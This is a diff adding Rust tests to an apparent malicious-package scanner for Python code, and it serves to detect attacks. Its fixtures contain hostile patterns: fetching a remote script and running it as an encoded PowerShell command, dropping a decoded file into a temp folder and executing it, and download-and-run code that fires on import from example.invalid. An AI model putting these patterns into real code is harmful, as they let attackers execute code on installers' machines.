@@ -766,3 +766,36 @@ def serve(port):
 "#;
     assert!(!module(terminal).contains(&"py-reverse-shell".to_string()), "{:?}", module(terminal));
 }
+
+#[test]
+fn what_is_read_from_a_response_came_over_the_network() {
+    let code = r#"
+import base64, subprocess, urllib.request
+def run(url):
+    with urllib.request.urlopen(url) as response:
+        script = response.read().decode("utf-8")
+    encoded = base64.b64encode(script.encode("utf-16le")).decode("ascii")
+    subprocess.Popen(f"powershell.exe -EncodedCommand {encoded}", shell=True)
+"#;
+    assert!(module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
+}
+
+#[test]
+fn decoded_script_written_under_a_folder_and_run_by_the_interpreter() {
+    let code = r#"
+import os, base64, subprocess, sys
+with open(os.path.expandvars(r'%LOCALAPPDATA%\Temp')+r'\stage.py', 'wb') as f:
+    f.write(base64.b64decode('cHJpbnQoMSk='))
+subprocess.Popen([sys.executable, os.path.expandvars(r'%LOCALAPPDATA%\Temp')+r'\stage.py'])
+"#;
+    let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
+    assert!(found.contains(&"py-drop-run".to_string()), "{found:?}");
+}
+
+#[test]
+fn download_and_run_reached_from_the_import_keeps_its_weight() {
+    let code = "import subprocess, urllib.request\ndef update():\n    urllib.request.urlretrieve('https://example.invalid/u', 'u.bin')\n    subprocess.run(['./u.bin'])\nupdate()\n";
+    let facts = analyze("demo/__init__.py", code.as_bytes(), Context::Import, false, true);
+    let f = facts.findings.iter().find(|f| f.rule == "py-import-download-exec").expect("download and run");
+    assert_eq!(f.severity, Severity::High);
+}
